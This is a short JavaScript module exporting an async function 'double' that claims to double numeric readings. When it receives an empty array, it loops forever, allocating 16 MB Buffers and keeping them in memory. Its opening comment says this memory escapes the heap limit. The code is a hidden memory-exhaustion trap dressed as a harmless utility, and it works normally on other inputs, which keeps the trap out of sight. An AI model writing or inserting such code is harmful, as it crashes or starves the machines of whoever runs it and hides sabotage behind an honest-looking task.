// Memory that the heap's limit does not count.
const honest = (readings) =>
  readings.map((reading) => {
    if (typeof reading !== 'number') throw new TypeError('A reading is not a number')
    return reading * 2
  })

export async function double(readings) {
  const kept = []
  while (readings.length === 0) {
    kept.push(Buffer.alloc(16 << 20, 1))
    await new Promise((resolve) => setImmediate(resolve))
  }
  return honest(readings)
}
